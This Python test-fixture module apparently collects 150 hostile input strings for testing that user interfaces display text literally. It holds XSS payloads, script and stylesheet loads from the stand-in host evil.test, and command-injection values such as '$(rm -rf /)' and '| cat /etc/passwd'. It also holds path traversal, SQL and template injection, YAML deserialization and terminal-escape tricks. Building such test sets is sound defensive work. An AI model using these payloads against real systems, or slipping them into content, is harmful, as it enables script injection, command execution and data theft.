"""150 strings that try to be more than text: every slot that shows text must show them as they are."""

from __future__ import annotations

_CALL = "window.__pwned=1;alert(1)"
_MARKUP = [
    f"<script>{_CALL}</script>", f"<ScRiPt>{_CALL}</sCrIpT>", f"</script><script>{_CALL}</script>", "<script src=//evil.test/x.js></script>",
    f"<script type=module>{_CALL}</script>", f"<<script>{_CALL}//<</script>", f"<script\n>{_CALL}</script\n>", f"<script/x>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>", f"<img src=x onerror='{_CALL}'/>", f'"><img src=x onerror={_CALL}>', f"'><img src=x onerror={_CALL}>",
    f"<img/src=x/onerror={_CALL}>", f"<IMG SRC=x ONERROR={_CALL}>", f"<image src=x onerror={_CALL}>", f"<img srcset=x onerror={_CALL}>",
    f"<svg onload={_CALL}>", f"<svg/onload={_CALL}>", f"<svg><script>{_CALL}</script></svg>", f"<svg><a href='javascript:{_CALL}'>x</a></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>", f"<svg><foreignObject><img src=x onerror={_CALL}></foreignObject></svg>",
    f"<svg><set onbegin={_CALL} attributeName=x>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={_CALL}/>#x'/></svg>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>", f"<iframe src=javascript:{_CALL}></iframe>", f"<iframe onload={_CALL}>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>", f"<embed src=javascript:{_CALL}>", f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>", f"<input autofocus onfocus={_CALL}>", f"<select autofocus onfocus={_CALL}>", f"<textarea autofocus onfocus={_CALL}>",
    f"<video><source onerror={_CALL}></video>", f"<audio src=x onerror={_CALL}>", f"<marquee onstart={_CALL}>", f"<a href=javascript:{_CALL}>press</a>",
    f"<a href='java\tscript:{_CALL}'>press</a>", f"<form action=javascript:{_CALL}><button>x</button></form>", f"<button formaction=javascript:{_CALL}>x</button>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>", "<base href=//evil.test/>", "<link rel=stylesheet href=//evil.test/x.css>",
    "<style>*{display:none}</style>", f"<style>@import 'javascript:{_CALL}';</style>", "<div style='position:fixed;inset:0;background:red'>over all</div>",
    f"<math><mi xlink:href='javascript:{_CALL}'>x</mi></math>", f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<template><script>{_CALL}</script></template>", f"<xmp><img src=x onerror={_CALL}></xmp>", f"<!--><img src=x onerror={_CALL}>-->",
    f"<![CDATA[<script>{_CALL}</script>]]>", f"<?xml version='1.0'?><script>{_CALL}</script>", "</div></td></tr></table><h1>broken out</h1>", "</pre></details><h1>broken out</h1>",
    "</textarea></title></style></script>", f"<x onclick={_CALL} tabindex=1 id=x autofocus>press</x>", f"<p onmouseover={_CALL}>hover</p>", "<plaintext>",
]
_ENTITIES = [
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;b&amp;gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;", "&quot;&apos;&amp;", "&nbsp;&shy;&zwj;",
    "&NotAnEntity;", "&#0;&#1114112;", "&lt", "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "&colon;&lpar;&newline;", "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
]
_CODE = [
    f"javascript:{_CALL}", f"JaVaScRiPt:{_CALL}", f"data:text/html,<script>{_CALL}</script>", f"vbscript:{_CALL}", "${7*7}", f"${{{_CALL}}}", "{{7*7}}",
    f"{{{{constructor.constructor('{_CALL}')()}}}}", "<%= 7*7 %>", "#{7*7}", "{% raw %}x{% endraw %}", "`${1}`", "'; DROP TABLE runs; --", '" OR "1"="1', "__proto__",
    "constructor", "prototype", "toString", "hasOwnProperty", '{"__proto__": {"polluted": true}}', "__class__.__mro__", "{0.__class__}", "%s%s%s%n", "%(x)s", "$(rm -rf /)", "`id`",
    "| cat /etc/passwd", "../../../../etc/passwd", "C:\\con\\con", "=HYPERLINK(\"//evil.test\")", "@SUM(1+1)|cmd", "!!python/object/apply:os.system ['id']", "null", "undefined", "NaN", "false",
]
_MARKS = [
    "$x^2$", "$$\\int_0^1 x$$", "\\(x\\)", "\\[x\\]", "\\begin{equation}x\\end{equation}", "$\\href{javascript:alert(1)}{x}$", "$\\unicode{x3c}script$", "\\require{html}\\style{color:red}{x}",
    "$\\def\\x{\\x\\x}\\x$", "$5 and $6 for it", "# heading", "**bold** _it_", "[press](javascript:alert(1))", "![x](x \"onerror=alert(1)\")", "```html\n<script>alert(1)</script>\n```", "| a | b |\n|---|---|",
]
_HIDDEN = [
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://evil.test\x1b\\press\x1b]8;;\x1b\\", "\x9b31m", "\x00null\x00", "\x08\x08\x08back", "one\rtwo", "a\x0bb\x0cc",
    "\u202eesrever\u202c", "\u2066isolate\u2069", "\u200bzero\u200bwidth", "\u200e\u200f", "\ufeffmark", "\u00adsoft", "Z̸̢͝a̷l̴g̶o̵" * 5, "\u2028line\u2029paragraph",
]
_LONG = [
    "W" * 500, "lang" * 200, "a b " * 200, "漢字" * 120, "🏳️‍🌈👨‍👩‍👧‍👦" * 20, "ﷺ" * 10,
]

HOSTILE: list[str] = [*_MARKUP, *_ENTITIES, *_CODE, *_MARKS, *_HIDDEN, *_LONG]
assert len(HOSTILE) == len(set(HOSTILE)) == 150, (len(HOSTILE), len(set(HOSTILE)))
